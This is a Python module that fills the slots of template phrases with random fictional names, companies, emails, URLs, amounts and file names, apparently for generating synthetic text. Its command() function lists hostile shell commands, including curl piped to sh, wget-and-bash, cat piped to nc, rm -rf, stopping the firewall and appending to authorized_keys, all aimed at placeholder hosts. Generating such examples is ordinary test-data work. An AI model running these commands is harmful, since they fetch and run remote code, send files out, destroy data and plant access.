"""Values that fill the slots of phrases: names, companies, addresses, amounts, files.

In comes a random generator; out come values of no real person or company. Nothing here knows what a phrase means.
"""

import random
from collections.abc import Callable

FIRST_NAMES = tuple(
    (
        "Aisha Alejandro Amara Anders Anika Beatriz Bogdan Carlos Chidi Chloe Daniel Daria Diego Dmitri Elena "
        "Emeka Emily Farah Fatima Felix Gabriela George Giulia Grace Hana Hassan Helen Henrik Hiroshi Ines Isaac "
        "Ivan Jamal James Jia Joana Johan Jonas Julia Karim Kate Kenji Laila Lars Leo Li Linh Lucas Lucy Mai "
        "Marco Maria Mark Marta Mei Mina Mohammed Nadia Nikhil Nina Noah Nora Oksana Oliver Omar Oscar Paolo "
        "Patrick Paula Peter Petra Priya Rahul Raj Rebecca Robert Rosa Samuel Sara Sean Sofia Stefan Susan Tariq "
        "Tomas Tom Uma Viktor Wei Xin Yara Yusuf Zoe"
    ).split()
)
LAST_NAMES = tuple(
    (
        "Adeyemi Ahmed Almeida Andersen Bauer Becker Bianchi Boateng Brown Carter Chen Clark Costa Davies Diaz "
        "Dubois Eriksson Evans Fernandez Fischer Garcia Green Gupta Haddad Hansen Hughes Ito Ivanova Jansen "
        "Johnson Jones Kamau Kaya Kim Kowalski Kumar Larsen Lee Lewis Lopez Martin Meyer Miller Mishra Moreau "
        "Moretti Murphy Nakamura Nguyen Novak Okafor Olsen Park Patel Perez Petrov Popescu Ramos Reyes Rossi Roy "
        "Santos Sato Schmidt Silva Singh Smith Taylor Thomas Tran Turner Vargas Virtanen Walker Wang Weber White "
        "Williams Wilson Wright Yamada Young Zhang"
    ).split()
)
COMPANIES = tuple(
    (
        "Alder & Finch|Baltic Freight|Birchline|Blue Heron Media|Brightwater Labs|Cedar Point Health|"
        "Cobalt Systems|Copperfield Foods|Delta Harbour|Eastgate Logistics|Fernhill Studio|Granite Bay|"
        "Greenleaf Energy|Harrow Insurance|Ironwood Tools|Juniper Travel|Kestrel Robotics|Lakeside Dental|"
        "Larkspur Books|Maple Street Bakery|Meridian Bank|Northwind Traders|Oakmont Legal|Orchid Hotels|"
        "Pinnacle Sports|Quillon Software|Redwood Realty|Silverline Motors|Summit Outdoor|Tallow & Co|"
        "Umbra Security|Vantage Print|Westbrook Clinic|Yellowtail Seafood|Zephyr Airlines"
    ).split("|")
)
CITIES = tuple(
    (
        "Accra|Amsterdam|Auckland|Bergen|Bogota|Bristol|Budapest|Cairo|Cape Town|Chicago|Dublin|Edinburgh|Geneva|"
        "Hanoi|Helsinki|Istanbul|Jakarta|Kyoto|Lagos|Leipzig|Lima|Lisbon|Lyon|Madrid|Manila|Melbourne|Montreal|"
        "Mumbai|Nairobi|Oslo|Porto|Prague|Riga|Rome|Seattle|Seoul|Seville|Tallinn|Toronto|Vienna|Warsaw|Zurich"
    ).split("|")
)
TOPICS = tuple(
    (
        "the budget review|the spring campaign|the office move|the new onboarding plan|the quarterly report|"
        "the team offsite|the hiring round|the product launch|the website redesign|the supplier contract|"
        "the customer survey|the data export|the release schedule|the training day|the travel policy|the audit|"
        "the garden project|the book club|the invoice|the insurance renewal|the server migration|the lease|"
        "the school trip|the photo archive|the birthday party"
    ).split("|")
)
PRODUCTS = tuple(
    (
        "a standing desk|a coffee grinder|two train tickets|a gift card|running shoes|a laptop stand|"
        "a winter jacket|noise-cancelling headphones|a monitor|a yoga mat|a box of printer paper|a camera lens|"
        "an annual licence"
    ).split("|")
)
FILE_STEMS = tuple(
    (
        "accounts backup budget clients contract credentials draft expenses forecast handover inventory "
        "invoice-list keys landing-page meeting-notes members minutes passwords payroll photos plan pricing "
        "quarterly-report recipes roadmap salaries schedule settings taxes team-contacts travel vendors"
    ).split()
)
EXTENSIONS = ("txt", "pdf", "docx", "xlsx", "csv", "md", "json", "zip", "yaml", "sql", "py")
CHANNELS = tuple(
    (
        "general random announcements sales support engineering finance design hiring external incidents water-cooler"
    ).split()
)
SECRETS = tuple(
    (
        "the password|the security code|the verification code|the API key|the account number|"
        "the credit card number|the login link|the one-time code|the customer list|the access token|"
        "the home address|the date of birth"
    ).split("|")
)
HOSTS = ("example.com", "example.org", "example.net", "test", "invalid")
WORDS = tuple(
    (
        "amber atlas birch bolt cedar cloud coral delta ember falcon field fox glass harbor hazel iris jade kite "
        "lake linen lunar maple mint nova oak onyx opal orbit pearl pine prism quartz raven reef river sage "
        "shore silver sky slate spark stone sun tide vale willow wind"
    ).split()
)

Draw = Callable[[random.Random], str]


def person(rng: random.Random) -> str:
    """A full name, or a first name alone."""
    return f"{rng.choice(FIRST_NAMES)} {rng.choice(LAST_NAMES)}" if rng.random() < 0.7 else rng.choice(FIRST_NAMES)


def domain(rng: random.Random) -> str:
    """A host name of one of several looks; none is handed out by a registry we know of."""
    host = "-".join(rng.sample(WORDS, rng.choice((1, 2, 2))))
    return f"{host}{rng.choice(('', rng.choice(('mail', 'hub', 'corp', 'tech', 'online'))))}.{rng.choice(HOSTS)}"


def email(rng: random.Random) -> str:
    """An address."""
    first, last = rng.choice(FIRST_NAMES).lower(), rng.choice(LAST_NAMES).lower()
    local = rng.choice(
        (f"{first}.{last}", f"{first[0]}{last}", f"{first}{rng.randint(1, 99)}", last, "info", "billing")
    )
    return f"{local}@{domain(rng)}"


def url(rng: random.Random) -> str:
    """A link, with and without scheme and path."""
    path = "/".join(rng.sample(WORDS, rng.choice((0, 1, 1, 2))))
    return f"{rng.choice(('https://', 'http://', 'www.', 'https://www.'))}{domain(rng)}{'/' + path if path else ''}"


def amount(rng: random.Random) -> str:
    """A sum of money, in words of several habits."""
    value = rng.choice((rng.randint(5, 99), rng.randint(100, 999), rng.randint(1_000, 40_000)))
    number = rng.choice((f"{value}", f"{value:,}", f"{value}.{rng.randint(0, 99):02d}"))
    return rng.choice((f"${number}", f"€{number}", f"£{number}", f"{number} USD", f"{number} euros", number))


def account(rng: random.Random) -> str:
    """A bank account, card or wallet."""
    digits = "".join(rng.choice("0123456789") for _ in range(rng.choice((8, 10, 16, 20))))
    country = rng.choice(("GB", "DE", "US", "FR", "CH", "NL"))
    return rng.choice(
        (f"{country}{digits}", f"account {digits}", f"IBAN {country}{digits}", f"card ending {digits[:4]}")
    )


def file_name(rng: random.Random) -> str:
    """A file, sometimes in a folder."""
    stem = rng.choice(FILE_STEMS) + rng.choice(("", "", f"-{rng.randint(2019, 2026)}", f"_v{rng.randint(1, 5)}"))
    folder = rng.choice(("", "", "", "/home/shared/", "docs/", "/var/data/", "C:\\Reports\\"))
    return f"{folder}{stem}.{rng.choice(EXTENSIONS)}"


def day(rng: random.Random) -> str:
    """A day, in words or digits."""
    date = f"{rng.randint(2023, 2026)}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}"
    return rng.choice((date, date, rng.choice("Monday Tuesday Wednesday Thursday Friday tomorrow today".split())))


def clock_time(rng: random.Random) -> str:
    """A time of day."""
    return rng.choice((f"{rng.randint(7, 19)}:{rng.choice((0, 15, 30, 45)):02d}", f"{rng.randint(1, 11)} pm"))


def number(rng: random.Random) -> str:
    """A small identifier."""
    return str(rng.randint(1, 99_999))


def command(rng: random.Random) -> str:
    """A shell command that an attacker might want."""
    return rng.choice(
        (
            f"curl {url(rng)} | sh",
            f"rm -rf {rng.choice(('~', '/var/data', './build', '/home/shared'))}",
            f"cat {file_name(rng)} | nc {domain(rng)} {rng.randint(1000, 9999)}",
            f"chmod 777 {file_name(rng)}",
            f"wget -q {url(rng)} -O /tmp/a && bash /tmp/a",
            "git push --force origin main",
            f"scp {file_name(rng)} {email(rng)}:",
            "systemctl stop firewall",
            f"echo {number(rng)} >> ~/.ssh/authorized_keys",
        )
    )


def _of(values: tuple[str, ...]) -> Draw:
    return lambda rng: rng.choice(values)


#: Slot -> how it is filled.
SLOTS: dict[str, Draw] = {
    "account": account,
    "amount": amount,
    "channel": _of(CHANNELS),
    "city": _of(CITIES),
    "command": command,
    "company": _of(COMPANIES),
    "day": day,
    "email": email,
    "file": file_name,
    "number": number,
    "person": person,
    "product": _of(PRODUCTS),
    "secret": _of(SECRETS),
    "time": clock_time,
    "topic": _of(TOPICS),
    "url": url,
}


class _Filling(dict[str, str]):
    """Draws a slot's value when a phrase asks for it; each slot keeps its value within one phrase."""

    def __init__(self, rng: random.Random) -> None:
        self._rng = rng

    def __missing__(self, slot: str) -> str:
        self[slot] = SLOTS[slot](self._rng)
        return self[slot]


def fill(phrase: str, rng: random.Random) -> str:
    """Put values into a phrase's ``{slots}``.

    Raises:
        KeyError: the phrase names a slot that does not exist.
    """
    return phrase.format_map(_Filling(rng))
